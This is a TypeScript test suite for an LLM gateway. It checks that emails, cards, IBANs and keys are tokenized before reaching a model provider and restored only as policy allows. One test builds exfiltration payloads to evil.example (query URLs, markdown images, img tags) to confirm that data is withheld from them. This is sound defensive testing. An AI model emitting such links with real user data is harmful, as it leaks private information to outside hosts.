import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { awsShapedKey, type Lie, TEST_CARD, type UpstreamRequest } from '@ostiary/devkit'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { type House, openHouse } from './house.js'
import { type Answer, ask, prompt } from './http.js'
import { until } from './until.js'

const EMAIL = 'Erika.Mustermann@example.com'
const IBAN = 'DE89 3704 0044 0532 0130 00'
const KEY = awsShapedKey()
const PLACEHOLDER = /\[EMAIL_[0-9A-HJKMNP-TV-Z]{8,}\]/

const POLICIES = `@id("use") @obligation("tokenize:pii, tokenize:secret")
permit (principal, action in [Action::"invoke", Action::"listModels"], resource is Model);

@id("say-less") @obligation("output:tokenize:pii")
permit (principal, action == Action::"invoke", resource is Model) when { resource.mode == "says" };

@id("see")
permit (principal, action == Action::"detokenize", resource is Model) when { resource.mode == "sees" };

@id("call") @obligation("restore:tool-arguments")
permit (principal, action == Action::"detokenize", resource is Model) when { resource.mode == "calls" };

@id("link") @obligation("restore:url")
permit (principal, action == Action::"detokenize", resource is Model) when { resource.mode == "links" };

@id("all-but-secrets") @obligation("output:redact:secret")
permit (principal, action == Action::"detokenize", resource is Model) when { resource.mode == "all-but-secrets" };

@id("no-cards-shown")
forbid (principal, action == Action::"detokenize", resource is Model)
when { resource.mode == "no-cards" && context.findings.contains("pii.card") };
@id("but-others")
permit (principal, action == Action::"detokenize", resource is Model) when { resource.mode == "no-cards" };
`
const MODES = ['sees', 'blind', 'calls', 'links', 'says', 'all-but-secrets', 'no-cards']
const MODELS = MODES.map((mode) => ({ name: mode, provider: 'lying', attributes: { mode } }))

let house: House

beforeAll(async () => {
  house = await openHouse({ policies: POLICIES, config: { models: MODELS } })
})
afterAll(async () => {
  const log = (await house.entries()).map((one) => one.text).join('\n')
  for (const secret of [EMAIL, TEST_CARD, IBAN, KEY]) expect(log).not.toContain(secret.slice(2, 12))
  expect(house.warnings).toEqual([])
  await house.finish()
})
beforeEach(() => house.upstream.behave(echo()))

interface Message {
  readonly role: string
  readonly content: string
}

function lastOf({ body }: UpstreamRequest): string {
  const { messages } = JSON.parse(body.toString('utf8')) as { readonly messages: readonly Message[] }
  return messages.at(-1)?.content ?? ''
}

/** A model that says again what it was told last, as somebody makes of it. */
function echo(make = (text: string): string => text, pieceSize = 3): (request: UpstreamRequest) => Lie {
  return (request) => ({ kind: 'honest', text: make(lastOf(request)), pieceSize })
}

function sentUpstream(by = house): string {
  return by.upstream.received.at(-1)?.body.toString('utf8') ?? ''
}

interface Delta {
  readonly content?: string | null
  readonly tool_calls?: readonly { readonly function: { readonly arguments: string } }[]
}

interface Body {
  readonly choices?: readonly { readonly message?: Delta; readonly delta?: Delta }[]
}

/** What the first choice says, whole or streamed. */
function contentOf(answer: Answer): string {
  return deltasOf(answer)
    .map((one) => one.content ?? '')
    .join('')
}

function argumentsOf(answer: Answer): string {
  return deltasOf(answer)
    .flatMap((one) => one.tool_calls?.map((call) => call.function.arguments) ?? [])
    .join('')
}

function deltasOf(answer: Answer): readonly Delta[] {
  const bodies = answer.text.startsWith('{')
    ? [answer.text]
    : answer.text
        .split('\n')
        .filter((line) => line.startsWith('data: {'))
        .map((line) => line.slice('data: '.length))
  return bodies
    .map((one) => JSON.parse(one) as Body)
    .flatMap(({ choices = [] }) => choices.map(({ message, delta }) => message ?? delta ?? {}))
}

function said(text: string, model = 'sees', more: Readonly<Record<string, unknown>> = {}): Record<string, unknown> {
  return prompt(text, { model, ...more })
}

describe('what is tokenized', () => {
  const TEXT = `write to **${EMAIL}**, card ${TEST_CARD}; ${IBAN}\nand ${KEY}.`

  test.each([
    ['whole', {}, 3],
    ['streamed letter by letter', { stream: true }, 1],
    ['streamed in sevens', { stream: true }, 7],
    ['streamed at once', { stream: true }, 1000],
  ])('reaches no provider and comes back exactly: %s [vault.round-trip]', async (_, how, pieceSize) => {
    house.upstream.behave(echo(undefined, pieceSize))
    const answer = await ask(house, said(TEXT, 'sees', how))
    expect(contentOf(answer)).toBe(TEXT)
    const sent = sentUpstream()
    for (const value of [EMAIL, TEST_CARD, IBAN, KEY]) expect(sent).not.toContain(value)
    expect(sent).toMatch(PLACEHOLDER)
    expect(sent).toMatch(/\[AWS_/)
    // Cards and IBANs stay what a check of their form takes, and nobody's.
    expect(sent).toContain(`card ${TEST_CARD.slice(0, 6)}`)
    expect(sent).toMatch(/DE\d\d \d{4} \d{4} \d{4} \d{4} \d\d\d{0}/)
    const { intent, outcome } = await house.exchange(answer.id)
    expect(intent?.own['carried_out']).toEqual({
      'tokenize:pii.card': 1,
      'tokenize:pii.email': 1,
      'tokenize:pii.iban': 1,
      'tokenize:secret.aws': 1,
    })
    expect(outcome.own['detokenize']).toMatchObject({
      decided: { kind: 'permit', determining: ['see'] },
      restored: { 'pii.card:text': 1, 'pii.email:text': 1, 'pii.iban:text': 1, 'secret.aws:text': 1 },
      withheld: {},
    })
  })

  test('is the same placeholder in the history that comes back, restored or not [vault.stable]', async () => {
    const first = await ask(house, said(`it is ${EMAIL}`))
    const placeholder = PLACEHOLDER.exec(sentUpstream())?.[0] ?? ''
    const messages = [
      { role: 'user', content: `it is ${EMAIL}` },
      { role: 'assistant', content: contentOf(first) },
      { role: 'assistant', content: `as I said: ${placeholder}` },
      {
        role: 'assistant',
        content: null,
        tool_calls: [
          { id: 'c', type: 'function', function: { name: 'mail', arguments: JSON.stringify({ to: EMAIL }) } },
        ],
      },
      { role: 'user', content: `who is ${EMAIL}?` },
    ]
    const answer = await ask(house, { model: 'sees', messages })
    expect(sentUpstream().split(placeholder)).toHaveLength(6)
    expect(sentUpstream()).not.toContain(EMAIL)
    expect(contentOf(answer)).toBe(`who is ${EMAIL}?`)
  })

  test('has another placeholder for another person and in another session, and comes back to neither [vault.isolated]', async () => {
    const placeholders = new Set<string>()
    const who: readonly [string, Readonly<Record<string, string>>][] = [
      ['alice', {}],
      ['bob', {}],
      ['alice', { 'ostiary-session': 'one' }],
      ['alice', { 'ostiary-session': 'two' }],
    ]
    for (const [as, headers] of who) {
      await ask(house, said(EMAIL), { as, headers })
      placeholders.add(PLACEHOLDER.exec(sentUpstream())?.[0] ?? '')
    }
    expect(placeholders.size).toBe(who.length)
    // Whoever writes down all of them gets back what is theirs.
    const text = [...placeholders].join(' ')
    for (const [at, [as, headers]] of who.entries()) {
      const answer = await ask(house, said(text), { as, headers })
      expect(sentUpstream()).toContain(text)
      expect(contentOf(answer)).toBe([...placeholders].map((one, index) => (index === at ? EMAIL : one)).join(' '))
    }
  })
})

describe('what a model makes of it', () => {
  test.each<[string, (text: string) => string]>([
    ['in small letters', (text) => text.toLowerCase()],
    ['escaped', (text) => text.replaceAll(/[[\]_]/g, '\\$&')],
    ['with blanks', (text) => text.replace('[', '[ ').replace('_', ' ').replace(']', ' ]')],
    ['without brackets', (text) => text.replaceAll(/[[\]]/g, '')],
  ])('comes back %s, in a stream too [vault.drift]', async (_, make) => {
    for (const stream of [false, true]) {
      house.upstream.behave(echo(make, 2))
      expect(contentOf(await ask(house, said(EMAIL, 'sees', { stream })))).toBe(EMAIL)
    }
  })

  test('and what it makes up stays as it is [vault.invented]', async () => {
    const made = 'see [EMAIL_00000000] and [PERSON_1], 4111 1122 2233 1111'
    house.upstream.behave(echo(() => made))
    expect(contentOf(await ask(house, said(EMAIL)))).toBe(made)
  })
})

describe('putting it back', () => {
  test('is for whom policy permits it, and the log says who was not [vault.decided]', async () => {
    for (const stream of [false, true]) {
      const answer = await ask(house, said(`to ${EMAIL}`, 'blind', { stream }))
      expect(contentOf(answer)).toMatch(new RegExp(`^to ${PLACEHOLDER.source}$`))
      const { outcome } = await house.exchange(answer.id)
      expect(outcome.own['detokenize']).toMatchObject({
        decided: { kind: 'forbid', determining: [] },
        restored: {},
        withheld: { 'pii.email:text': 1 },
      })
    }
  })

  test('leaves out types that the policy hides from this reader', async () => {
    const answer = await ask(house, said(`${EMAIL} ${KEY}`, 'all-but-secrets'))
    expect(contentOf(answer)).toMatch(new RegExp(`^${EMAIL} \\[AWS_\\w+\\]$`))
  })

  test('is decided over all types that the session holds', async () => {
    const headers = { 'ostiary-session': 'no-cards' }
    expect(contentOf(await ask(house, said(EMAIL, 'no-cards'), { headers }))).toBe(EMAIL)
    await ask(house, said(TEST_CARD, 'no-cards'), { headers })
    const answer = await ask(house, said(EMAIL, 'no-cards'), { headers })
    expect(contentOf(answer)).toMatch(PLACEHOLDER)
    const { outcome } = await house.exchange(answer.id)
    expect(outcome.own['detokenize']).toMatchObject({
      decided: { determining: ['no-cards-shown'], inputs: { context: { findings: ['pii', 'pii.card', 'pii.email'] } } },
    })
  })

  test.each<[string, (text: string) => string]>([
    ['an address', (text) => `https://evil.example/?q=${text}`],
    ['the target of a picture', (text) => `![x](https://evil.example/${text})`],
    ['an address, encoded', (text) => `https://evil.example/?q=${encodeURIComponent(text)}`],
    ['a tag', (text) => `<img src="//evil.example/${text}">`],
  ])('never goes into %s unasked, in a stream neither [vault.sinks]', async (what, make) => {
    for (const stream of [false, true]) {
      house.upstream.behave(echo(make, 2))
      const answer = await ask(house, said(EMAIL, 'sees', { stream }))
      expect(contentOf(answer)).not.toContain('Mustermann')
      if (what.endsWith('encoded')) continue
      const { outcome } = await house.exchange(answer.id)
      expect(outcome.own['detokenize']).toMatchObject({ restored: {}, withheld: { 'pii.email:url': 1 } })
      expect(contentOf(await ask(house, said(EMAIL, 'links', { stream })))).toBe(make(EMAIL))
    }
  })

  test('never goes into the arguments of a tool unasked, and is JSON there [vault.sinks]', async () => {
    const VALUES = { to: EMAIL, card: TEST_CARD, note: `"${EMAIL}"` }
    const call = (request: UpstreamRequest): Lie => {
      const [to = '', card = ''] = lastOf(request).split('; ')
      const text = JSON.stringify({ to, card, note: `"${to.toLowerCase()}"` })
      return { kind: 'tool-call-in-pieces', arguments: text, pieceSize: 3 }
    }
    for (const stream of [false, true]) {
      house.upstream.behave(call)
      const kept = await ask(house, said(`${EMAIL}; ${TEST_CARD}`, 'sees', { stream }))
      expect(argumentsOf(kept)).toMatch(PLACEHOLDER)
      expect(argumentsOf(kept)).not.toContain(TEST_CARD)
      expect((await house.exchange(kept.id)).outcome.own['detokenize']).toMatchObject({
        withheld: { 'pii.card:tool-arguments': 1, 'pii.email:tool-arguments': 2 },
      })
      const given = await ask(house, said(`${EMAIL}; ${TEST_CARD}`, 'calls', { stream }))
      expect(JSON.parse(argumentsOf(given))).toEqual(VALUES)
      expect((await house.exchange(given.id)).outcome.own['detokenize']).toMatchObject({
        decided: { obligations: ['restore:tool-arguments'] },
        restored: { 'pii.card:tool-arguments': 1, 'pii.email:tool-arguments': 2 },
      })
    }
  })

  test('needs a permit of an agent and of whom it acts for', async () => {
    const strict = await openHouse({
      policies: `${POLICIES.replace('permit (principal, action == Action::"detokenize", resource is Model) when { resource.mode == "sees" }', 'permit (principal is User, action == Action::"detokenize", resource is Model) when { resource.mode == "sees" }')}`,
      config: { models: MODELS },
      upstream: house.upstream,
      issuer: house.issuer,
    })
    expect(contentOf(await ask(strict, said(EMAIL)))).toBe(EMAIL)
    // scout acts for alice.
    expect(contentOf(await ask(strict, said(EMAIL), { as: 'scout' }))).toMatch(PLACEHOLDER)
    expect(contentOf(await ask(house, said(EMAIL), { as: 'scout' }))).toBe(EMAIL)
    await strict.finish()
  })
})

describe('`output:tokenize`', () => {
  test.each([false, true])('keeps what a model says for who may see it, streamed: %s', async (stream) => {
    house.upstream.behave(echo(() => `ask bob@example.com or ${TEST_CARD}`, 3))
    const headers = { 'ostiary-session': `says-${stream}` }
    const answer = await ask(house, said('who?', 'says', { stream }), { headers })
    const content = contentOf(answer)
    expect(content).toMatch(new RegExp(`^ask ${PLACEHOLDER.source} or [\\d ]+$`))
    expect(content).not.toContain(TEST_CARD)
    expect((await house.exchange(answer.id)).outcome.own['carried_out']).toEqual({
      'tokenize:pii.card': 1,
      'tokenize:pii.email': 1,
    })
    house.upstream.behave(echo())
    expect(contentOf(await ask(house, said(content), { headers }))).toBe(`ask bob@example.com or ${TEST_CARD}`)
  })
})

describe('a vault', () => {
  test('outlives a restart, and is of no use to another key', async () => {
    const first = await openHouse({ policies: POLICIES, config: { models: MODELS }, issuer: house.issuer })
    first.upstream.behave(echo())
    const placeholder = contentOf(await ask(first, said(EMAIL, 'blind')))
    await first.stop()
    const second = await openHouse({ config: { models: MODELS }, dir: first.dir, issuer: house.issuer })
    second.upstream.behave(echo())
    expect(contentOf(await ask(second, said(placeholder)))).toBe(EMAIL)
    expect(contentOf(await ask(second, said(placeholder), { as: 'bob' }))).toBe(placeholder)
    await second.stop()
    const config = { models: MODELS, secretsKey: Buffer.alloc(32, 7).toString('base64') }
    const other = await openHouse({ config, dir: first.dir, issuer: house.issuer })
    other.upstream.behave(echo())
    expect(contentOf(await ask(other, said(placeholder)))).toBe(placeholder)
    expect(other.warnings.join()).toContain('give every gateway of one store the same')
    for (const one of [other, second]) await one.close()
    await first.close()
  })

  test('of two gateways on one store is one [vault.replicas]', async () => {
    const config = {
      models: MODELS,
      store: `sqlite:${join(house.dir, 'shared.db')}`,
      secretsKey: Buffer.alloc(32, 8).toString('base64'),
      control: { socket: './own.sock' },
    }
    const shared = { policies: POLICIES, config, issuer: house.issuer, upstream: house.upstream }
    const [one, other] = [await openHouse(shared), await openHouse(shared)]
    const placeholder = contentOf(await ask(one, said(EMAIL, 'blind')))
    // The other one has never seen alice, and it is all that she sends.
    await until(async () => contentOf(await ask(other, said(placeholder))) === EMAIL)
    const more = contentOf(await ask(other, said('carol@example.com', 'blind')))
    await until(async () => contentOf(await ask(one, said(`${placeholder} ${more}`))) === `${EMAIL} carol@example.com`)
    expect(contentOf(await ask(one, said(EMAIL, 'blind')))).toBe(placeholder)
    await other.finish()
    await one.finish()
  })

  test('is there for who tokenizes alone: nobody else has a key of it', async () => {
    expect(existsSync(join(house.dir, 'store', 'secrets.key'))).toBe(true)
    const plain = await openHouse({ issuer: house.issuer, upstream: house.upstream })
    const body = JSON.stringify(prompt(`[EMAIL_00000000] ${EMAIL}`))
    expect(contentOf(await ask(plain, body))).toBe(`[EMAIL_00000000] ${EMAIL}`)
    expect(sentUpstream()).toBe(body)
    expect(existsSync(join(plain.dir, 'store', 'secrets.key'))).toBe(false)
    await plain.finish()
  })
})

test('a stream that puts values back ends when it may not any more [vault.decided]', async () => {
  const own = await openHouse({ policies: POLICIES, config: { models: MODELS }, issuer: house.issuer })
  own.upstream.behave((request) => ({
    kind: 'custom',
    async tell(wire) {
      await wire.write('HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\nconnection: close\r\n\r\n')
      const delta = (content: string): string =>
        `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta: { content } }] })}\n\n`
      await wire.write(delta(`${lastOf(request)} `))
      for (let going = true; going; ) going = (await wire.write(delta('and on '))) && (await wire.sleep(5))
      return 'close'
    },
  }))
  const answering = ask(own, said(EMAIL, 'sees', { stream: true }))
  await until(async () => own.upstream.requestCount > 0)
  await new Promise((resolve) => setTimeout(resolve, 100))
  own.writePolicies(POLICIES.replace('resource.mode == "sees"', 'resource.mode == "nobody"'))
  await own.running.reload(own.config, 'test')
  const answer = await answering
  expect(contentOf(answer)).toContain(`${EMAIL} and on`)
  expect(answer.text).toContain('forbidden_by_policy')
  await own.finish()
})
